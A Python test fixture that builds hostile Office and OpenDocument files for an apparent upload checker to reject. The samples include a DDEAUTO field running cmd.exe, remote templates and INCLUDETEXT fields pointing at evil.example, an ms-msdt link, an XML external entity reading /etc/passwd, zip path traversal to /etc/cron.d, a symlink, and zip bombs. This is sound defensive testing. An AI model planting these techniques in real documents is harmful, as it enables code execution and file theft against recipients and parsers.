"""Office files that act, hide, fetch, swell or are locked, each with the reason for which it is refused."""

import struct
import zipfile
from collections.abc import Callable

from lib.inspection.marks import TEST_STRING
from tests.uploads import office
from tests.uploads.office import packed, raw_zip, word, word_parts, writer, writer_parts

Hostile = dict[str, tuple[Callable[[], bytes], str]]
ELF = b"\x7fELF" + b"\0" * 60
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'
)
OUTSIDE_ENTITY = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'


def _rel(kind: str, target: str, *, is_outside: bool = True) -> Callable[[], bytes]:
    return lambda: word("", (kind, target, is_outside))


def _field(code: str) -> Callable[[], bytes]:
    return lambda: word(f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>")


def _typed(type_: str, extra: str = "") -> Callable[[], bytes]:
    return lambda: packed(word_parts() | {"[Content_Types].xml": office.content_types(type_, extra=extra)})


def _entry(name: str, content: bytes | str = b"x", mode: int = 0) -> Callable[[], bytes]:
    def change(archive: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo("placeholder")
        info.filename, info.external_attr = name, mode << 16
        archive.writestr(info, content)

    return lambda: raw_zip(change)


def _with_settings(target: str) -> Callable[[], bytes]:
    rels = office.relations(("attachedTemplate", target, True))
    return lambda: word(word__settings_dot_xml="<s/>", word___rels__settings_dot_xml_dot_rels=rels)


def _split_field() -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" D", "DE", "AUTO c"))
    return word(f"<w:p>{runs}</w:p>")


def _encrypted_flag(content: bytes) -> bytes:
    """Set the flag of an encrypted entry in both lists of a ZIP."""
    changed = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def _overlapping() -> bytes:
    """Point two entries of the list at the same bytes."""
    content = bytearray(word(customXml__item1_dot_xml="<c/>"))
    last = content.rfind(b"PK\x01\x02")
    content[last + 42 : last + 46] = struct.pack("<I", 0)
    return bytes(content)


def _lying_size() -> bytes:
    """Say that a part is smaller than it is."""
    content = bytearray(word(word__media__a_dot_png=b"\x89PNG" + b"\0" * 5000))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 40)
    return bytes(content)


def _many_entries() -> bytes:
    return packed(word_parts() | {f"customXml/item{n}.xml": "<c/>" for n in range(5001)})


def _gap() -> bytes:
    """Leave room between two entries in which something else could stand."""
    content = bytearray(word())
    second = content.index(b"PK\x03\x04", 4)
    filler = b"<html>hidden</html>" * 10
    moved = content[:second] + filler + content[second:]
    at, is_first = moved.find(b"PK\x01\x02"), True
    while at >= 0:
        if not is_first:
            offset = struct.unpack("<I", moved[at + 42 : at + 46])[0]
            moved[at + 42 : at + 46] = struct.pack("<I", offset + len(filler))
        at, is_first = moved.find(b"PK\x01\x02", at + 4), False
    end = moved.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", moved[end + 16 : end + 20])[0]
    moved[end + 16 : end + 20] = struct.pack("<I", start + len(filler))
    return bytes(moved)


WORD: Hostile = {
    "macros-inside.docx": (lambda: word(word__vbaProject_dot_bin=OLE), "macros"),
    "macros-renamed.docx": (_typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "macros.docm": (lambda: word(word__vbaProject_dot_bin=OLE), "macros"),
    "macros.dotm": (word, "macros"),
    "macros.xlsm": (office.workbook, "macros"),
    "template-renamed.docx": (_typed(f"{office.WORD_TYPE}.template.main+xml"), "type"),
    "workbook-renamed.docx": (office.workbook, "damaged"),
    "no-main-part.docx": (lambda: packed({"[Content_Types].xml": office.content_types()}), "damaged"),
    "vba-type.docx": (
        _typed(
            f"{office.WORD_TYPE}.document.main+xml",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "macros",
    ),
    "ole-object.docx": (_rel("oleObject", "embeddings/oleObject1.bin", is_outside=False), "active"),
    "ole-part.docx": (lambda: word(word__embeddings__oleObject1_dot_bin=OLE), "hidden"),
    "ole-in-a-picture.docx": (lambda: word(word__media__image1_dot_png=OLE), "hidden"),
    "activex.docx": (_rel("control", "activeX/activeX1.xml", is_outside=False), "active"),
    "alternative-chunk.docx": (_rel("aFChunk", "afchunk.mht", is_outside=False), "active"),
    "sub-document.docx": (_rel("subDocument", "http://evil.example/a.docx"), "active"),
    "remote-template.docx": (_with_settings("http://evil.example/a.dotm"), "external"),
    "network-template.docx": (_with_settings("\\\\evil\\share\\a.dotm"), "external"),
    "network-template-url.docx": (_with_settings("file://evil/share/a.dotm"), "external"),
    "remote-picture.docx": (_rel("image", "https://evil.example/pixel.png"), "external"),
    "remote-frame.docx": (_rel("frame", "https://evil.example/"), "external"),
    "script-link.docx": (_rel("hyperlink", "javascript:alert(1)"), "external"),
    "program-link.docx": (_rel("hyperlink", "file:///C:/Windows/System32/cmd.exe"), "external"),
    "network-link.docx": (_rel("hyperlink", "\\\\evil\\share"), "external"),
    "msdt-link.docx": (_rel("hyperlink", "ms-msdt:/id PCWDiagnostic"), "external"),
    "internal-remote.docx": (_rel("image", "http://evil.example/a.png", is_outside=False), "external"),
    "dde.docx": (_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "external"),
    "dde-split.docx": (_split_field, "external"),
    "include-text.docx": (_field(' INCLUDETEXT "http://evil.example/a.docx" '), "external"),
    "include-picture.docx": (_field(' INCLUDEPICTURE "http://evil.example/a.png" '), "external"),
    "dde-simple-field.docx": (
        lambda: word('<w:p><w:fldSimple w:instr=" DDE excel a b "/></w:p>'),
        "external",
    ),
    "entities.docx": (lambda: word(customXml__item1_dot_xml=ENTITIES), "active"),
    "outside-entity.docx": (lambda: word(customXml__item1_dot_xml=OUTSIDE_ENTITY), "active"),
    "broken-xml.docx": (lambda: word(customXml__item1_dot_xml="<a><b></a>"), "damaged"),
    "deep-xml.docx": (lambda: word(customXml__item1_dot_xml="<a>" * 5000 + "</a>" * 5000), "damaged"),
    "script-picture.docx": (lambda: word(word__media__a_dot_svg="<svg><script>1</script></svg>"), "active"),
    "program-inside.docx": (lambda: word(word__media__setup_dot_exe=b"MZ" + b"\0" * 90), "hidden"),
    "elf-as-picture.docx": (lambda: word(word__media__image1_dot_png=ELF), "hidden"),
    "unknown-part.docx": (lambda: word(word__payload_dot_dat=b"payload"), "hidden"),
    "zip-inside.docx": (lambda: word(word__media__a_dot_zip=packed({"a": "b"})), "hidden"),
    "zip-as-picture.docx": (lambda: word(word__media__image1_dot_png=packed({"a": "b"})), "hidden"),
    "word-inside.docx": (lambda: word(word__embeddings__a_dot_docx=word()), "hidden"),
    "macro-book-inside.docx": (
        lambda: word(word__embeddings__a_dot_xlsx=office.workbook(macros=True)),
        "macros",
    ),
    "eicar-inside.docx": (lambda: word(word__media__image1_dot_png=TEST_STRING), "virus"),
    "eicar-nested.docx": (
        lambda: word(word__embeddings__a_dot_xlsx=packed({"eicar.com": TEST_STRING})),
        "damaged",
    ),
    "bomb.docx": (lambda: word(word__media__image1_dot_png=b"\0" * 60_000_000), "bomb"),
    "bomb-xml.docx": (
        lambda: word(customXml__item1_dot_xml="<a>" + " " * 60_000_000 + "</a>"),
        "bomb",
    ),
    "many-entries.docx": (_many_entries, "bomb"),
    "encrypted-entry.docx": (lambda: _encrypted_flag(word()), "locked"),
    "encrypted.docx": (lambda: OLE, "locked"),
}


def _long_directory(*, longer: bool, count: int, says: int) -> bytes:
    """A Word file whose list of contents goes on and on, with a number of entries that may lie."""
    start = word()
    at = struct.unpack("<L", start[-6:-2])[0]
    row = (
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    )
    directory = start[at:-22] + row * count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, says % 2**16, says % 2**16, len(directory), at, 0)
    if longer:
        record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, says, says, len(directory), at)
        locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at + len(directory), 1)
        end = record + locator + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0, 0, 2**32 - 1, 2**32 - 1, 0)
    return start[:at] + directory + end


ARCHIVES: Hostile = {
    "million-entries.docx": (lambda: _long_directory(longer=True, count=1_000_000, says=1_000_000), "bomb"),
    "million-entries-unsaid.docx": (lambda: _long_directory(longer=True, count=1_000_000, says=9), "bomb"),
    "long-directory.docx": (lambda: _long_directory(longer=False, count=60_000, says=9), "bomb"),
    "duplicate-entry.docx": (_entry("word/document.xml", "<evil/>"), "hidden"),
    "duplicate-by-case.docx": (_entry("WORD/document.xml", "<evil/>"), "hidden"),
    "climbing-entry.docx": (_entry("../../etc/cron.d/evil.xml"), "path"),
    "absolute-entry.docx": (_entry("/etc/cron.d/evil.xml"), "path"),
    "backslash-entry.docx": (_entry("..\\..\\evil.xml"), "path"),
    "drive-entry.docx": (_entry("C:/evil.xml"), "path"),
    "symbolic-link.docx": (_entry("word/media/a.png", "/etc/passwd", 0o120777), "path"),
    "control-character-entry.docx": (_entry("word/a\n.xml", "<a/>"), "path"),
    "overlapping-entries.docx": (_overlapping, "hidden"),
    "lying-size.docx": (_lying_size, "damaged"),
    "gap-between-entries.docx": (_gap, "hidden"),
    "comment.docx": (lambda: word()[:-2] + struct.pack("<H", 20) + b"<script>alert(1)</s>", "hidden"),
    "leading-junk.docx": (lambda: b"#!/bin/sh\nexit\n" + word(), "type"),
    "leading-entry.docx": (lambda: b"PK\x03\x04" + b"\0" * 60 + word(), "hidden"),
    "trailing-junk.docx": (lambda: word() + b"MZ" + b"\0" * 200, "hidden"),
    "cut-in-half.docx": (lambda: word()[: len(word()) // 2], "damaged"),
    "cut-at-the-end.docx": (lambda: word()[:-30], "damaged"),
    "bzip2.docx": (lambda: packed(word_parts(), method=zipfile.ZIP_BZIP2), "damaged"),
    "flipped-bit.docx": (lambda: word()[:60] + bytes([word()[60] ^ 0x10]) + word()[61:], "damaged"),
}
WRITER: Hostile = {
    "basic-macro.odt": (lambda: writer(Basic__Standard__Module1_dot_xml="<a/>"), "macros"),
    "python-macro.odt": (lambda: writer(Scripts__python__evil_dot_py="import os"), "macros"),
    "event.odt": (lambda: writer('<script:event-listener script:event-name="dom:load"/>'), "macros"),
    "ole.odt": (lambda: writer('<draw:object-ole xlink:href="./Object 1"/>'), "active"),
    "ole-part.odt": (lambda: writer(ObjectReplacements__Object_1=OLE), "hidden"),
    "plugin.odt": (lambda: writer('<draw:plugin xlink:href="https://evil.example/a"/>'), "active"),
    "applet.odt": (lambda: writer('<draw:applet xlink:href="a.jar"/>'), "active"),
    "remote-picture.odt": (
        lambda: writer('<draw:image xlink:href="https://evil.example/a.png"/>'),
        "external",
    ),
    "local-picture.odt": (lambda: writer('<draw:image xlink:href="file:///etc/passwd"/>'), "external"),
    "climbing-picture.odt": (lambda: writer('<draw:image xlink:href="../../etc/passwd"/>'), "external"),
    "remote-section.odt": (
        lambda: writer('<text:section-source xlink:href="http://evil.example/a.odt"/>'),
        "external",
    ),
    "frame.odt": (lambda: writer('<draw:floating-frame xlink:href="https://evil.example"/>'), "active"),
    "dde.odt": (lambda: writer("<text:dde-connection-decl/>"), "external"),
    "script-link.odt": (lambda: writer('<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'), "external"),
    "encrypted.odt": (
        lambda: writer(
            META_INF__manifest_dot_xml=f'<m:manifest xmlns:m="{office.MANIFEST}"><m:file-entry>'
            "<m:encryption-data/></m:file-entry></m:manifest>"
        ),
        "locked",
    ),
    "template.odt": (
        lambda: packed(
            writer_parts() | {"mimetype": f"{office.ODT_TYPE}-template"}, stored=frozenset({"mimetype"})
        ),
        "type",
    ),
    "no-mimetype.odt": (lambda: packed({"content.xml": "<a/>"}), "damaged"),
    "packed-mimetype.odt": (lambda: packed(writer_parts()), "damaged"),
    "entities.odt": (lambda: writer(settings_dot_xml=ENTITIES), "active"),
    "program-inside.odt": (lambda: writer(Pictures__1_dot_png=b"MZ" + b"\0" * 90), "hidden"),
    "unknown-part.odt": (lambda: writer(payload_dot_dat=b"x"), "hidden"),
    "bomb.odt": (lambda: writer(Pictures__1_dot_png=b"\0" * 60_000_000), "bomb"),
    "word-as-writer.odt": (word, "damaged"),
    "writer-as-word.docx": (writer, "damaged"),
}
